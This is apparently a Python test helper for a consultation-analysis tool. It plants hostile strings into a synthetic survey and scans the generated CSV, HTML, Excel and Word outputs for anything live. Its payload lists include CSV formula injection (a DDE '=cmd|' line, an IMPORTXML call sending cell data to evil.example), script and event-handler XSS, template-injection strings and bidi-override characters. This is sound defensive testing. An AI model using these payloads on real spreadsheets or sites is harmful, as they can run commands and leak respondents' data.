"""A consultation whose answers, options, labels, ids and groups attack whoever opens the report, and what came of it.

`plant(folder, people)` writes one; `findings(folder)` says what is live or unreadable in the files of a folder.
By hand, around `themes run`, `review`, `review --apply` and `publish`: `python -m tests.hostile plant FOLDER PEOPLE`,
`python -m tests.hostile rename REVIEW.xlsx` (theme names that attack, quotes approved), `python -m tests.hostile RUN`.
"""

import csv
import io
import re
import sys
import tomllib
import unicodedata
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
from lxml import etree

from themes.synthetic import write

FORMULAS = (
    '=HYPERLINK("http://evil.example","click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0",
    "＝1+1", "\t=1+1", '"=1+1"', "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"onmouseover="alert(2)" x=\'', "</td></table><b>",
    "<a href='javascript:alert(3)'>here</a>", "<!--", "]]>", "&lt;b&gt; &amp; &#60;", "<w:p/>",
    "<style>*{display:none}",
)  # fmt: skip
TEMPLATES = ("{{ 7 * 7 }}", "{% for x in y %}", "${7*7}", "$$note$$", "[words](http://evil.example)", "%s %n {0}")
LETTERS = (
    "\u202egnorw eht yaw dnuor", "\u2066isolated\u2069", "\u200fright to left", "null\x00byte", "bell\x07 \x1b[31mred",
    "\ufffe\uffff", "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿", "Z̸̡͇a͓l̷g̴o̵", "\ufeffmark", "ﷺ العربية", "𝕱𝖆𝖓𝖈𝖞", "\u2028line\u2029paragraph",
)  # fmt: skip
ALL = (*FORMULAS, *MARKUP, *TEMPLATES, *LETTERS)
OPTION, GROUP, OTHER_GROUP, HEADER = FORMULAS[0], MARKUP[1], FORMULAS[5], "=1+1 <b>What is your age?</b>"
TITLE, BODY, ASKED = (
    "<script>alert('title')</script> {{ 7 * 7 }}",
    '=HYPERLINK("http://evil.example","body")',
    MARKUP[3],
)
LONG = 50_000
FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")
MARKS = re.compile(r"-?[\d.,]*\Z")
# What the page is made of; anything else in it was written by somebody else.
TAGS = set("""html head meta title style body a div p strong header h1 h2 h3 h4 h5 ul ol li nav main section article
span br figure figcaption table caption thead tbody tr th td blockquote svg rect path footer""".split())  # fmt: skip
FIELDS = re.compile(r"\s*(?:PAGE|NUMPAGES|SEQ (?:Table|Figure) \\\* ARABIC|TOC [\\\-o\"1nhz ]+)\s*")
WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def plant(folder: Path, people: int) -> Path:
    """Write an invented consultation in which every place that holds words attacks; return its settings."""
    path = write(folder, people)
    settings = path.read_text(encoding="utf-8")
    export = path.with_name("responses.csv")
    with export.open(encoding="utf-8", newline="") as file:
        headers, *rows = csv.reader(file)
    asked = [question["column"] for question in tomllib.loads(settings)["questions"]]
    for number, row in enumerate(rows):
        for place, column in enumerate(map(headers.index, asked)):
            attack = ALL[(number + place) % len(ALL)]
            row[column] = f"{attack} {row[column]}" if number % 2 else f"{row[column]} {attack}"
        row[0] = f"{ALL[number % len(FORMULAS)]}{row[0]}"
        row[:] = [{"Not sure": OPTION, "Inverlorne": GROUP, "Balnamoor": OTHER_GROUP}.get(cell, cell) for cell in row]
    first, second = rows[0], rows[1]
    first[headers.index(asked[0])] = "The bus is late. " * (LONG // 17)
    second[headers.index(asked[0])] = "=" + "x" * LONG
    for row in rows[2:10]:
        row[headers.index(asked[0])] = MARKUP[0]
    headers[headers.index("What is your age?")] = HEADER
    with export.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([headers, *rows])
    for old, new in (
        ("Join the Conversation 2026", TITLE), ("Strathtay Health and Social Care Partnership", BODY),
        ("Not sure", OPTION), ("What is your age?", HEADER),
        (f'text = "{asked[1]}"', f'text = "{ASKED}"'),
    ):  # fmt: skip
        assert old in settings, old
        settings = settings.replace(old, new if new.startswith("text = ") else new.replace('"', '\\"'))
    # What people approve is published, and nothing waits for the rest.
    settings += '\n[publication]\nreview = "not required"\nredaction_check = "not required"\n'
    path.write_text(settings, encoding="utf-8")
    return path


def findings(folder: Path) -> list[str]:
    """What is live, or cannot be read, in the files of a folder; nothing of good ones."""
    readers = {".csv": _csv, ".html": _page, ".xlsx": _workbook, ".docx": _word}
    told = (
        f"{path.relative_to(folder)}: {found}"
        for path in sorted(folder.rglob("*"))
        if path.suffix in readers
        for found in readers[path.suffix](path.read_bytes())
    )
    return list(dict.fromkeys(told))


def _csv(content: bytes) -> Iterator[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    if len({len(row) for row in rows}) > 1:
        yield "rows of different lengths"
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if FORMULA.match(cell.lstrip(" \"'“”\ufeff\u00a0")) and not cell.startswith("'")]
    if live := [cell for cell in live if not MARKS.match(cell)]:
        yield f"{len(live)} cells that a spreadsheet takes for formulas"
    yield from _letters("".join(cells))


class _Tags(HTMLParser):
    """What a page is made of."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.words: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"the tag {tag}")
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "style"} or (name == "href" and not str(value).startswith("#")):
                self.wrong.append(f"the attribute {name} of {tag}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def _page(content: bytes) -> Iterator[str]:
    page = _Tags(content.decode("utf-8"))
    yield from page.wrong
    yield from _letters("".join(page.words))


def _workbook(content: bytes) -> Iterator[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    if live := [cell for cell in cells if cell.data_type == "f"]:
        yield f"{len(live)} formulas"
    if links := [cell for cell in cells if cell.hyperlink and cell.hyperlink.target]:
        yield f"{len(links)} links to other places"
    yield from _package(content)
    yield from _letters("".join(str(cell.value) for cell in cells))


def _word(content: bytes) -> Iterator[str]:
    yield from _package(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = etree.fromstring(archive.read("word/document.xml"))
    codes = [code.text or "" for code in body.iter(f"{WORD}instrText")]
    if live := [code for code in codes if not FIELDS.fullmatch(code)]:
        yield f"{len(live)} fields that are none of ours"
    yield from _letters("".join(text.text or "" for text in body.iter(f"{WORD}t")))


def _package(content: bytes) -> Iterator[str]:
    """Parts that are no XML, and relations that lead to other places."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            try:
                root = etree.fromstring(archive.read(name))
            except etree.XMLSyntaxError:
                yield f"{name} is no XML"
                continue
            if any(one.get("TargetMode") == "External" for one in root):
                yield f"{name} leads to another place"


def _letters(text: str) -> Iterator[str]:
    """Letters that cannot be read, or that turn the words around them."""
    bad = {letter for letter in text if unicodedata.category(letter) in {"Cc", "Cs"}} - {"\n", "\r", "\t"}
    bad |= {letter for letter in text if letter in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufffe\uffff"}
    if bad:
        yield f"letters that cannot be read: {', '.join(f'U+{ord(letter):04X}' for letter in sorted(bad))}"


def rename(path: Path) -> None:
    """Give every theme of a review workbook a name that attacks, and approve every quote."""
    book = openpyxl.load_workbook(path)
    for name, decision in (("themes", "rename"), ("quotes", "approve")):
        rows = list(book[name].iter_rows())
        start = next(place for place, row in enumerate(rows) if "decision" in [cell.value for cell in row])
        headings = [cell.value for cell in rows[start]]
        for number, row in enumerate(rows[start + 1 :]):
            row[headings.index("decision")].value = decision
            if decision == "rename":
                cell = row[headings.index("new_label")]
                cell.value, cell.data_type = [*MARKUP, *FORMULAS][number % 20], "s"
    book.save(path)


def main(arguments: list[str]) -> None:
    """What is asked by hand."""
    if arguments[0] == "plant":
        print(plant(Path(arguments[1]), int(arguments[2])))  # noqa: T201  a script too: it prints
    elif arguments[0] == "rename":
        rename(Path(arguments[1]))
    else:
        told = findings(Path(arguments[0]))
        print(f"{arguments[0]}: {len(told)} findings", *told, sep="\n  ")  # noqa: T201  a script too: it prints


if __name__ == "__main__":
    main(sys.argv[1:])
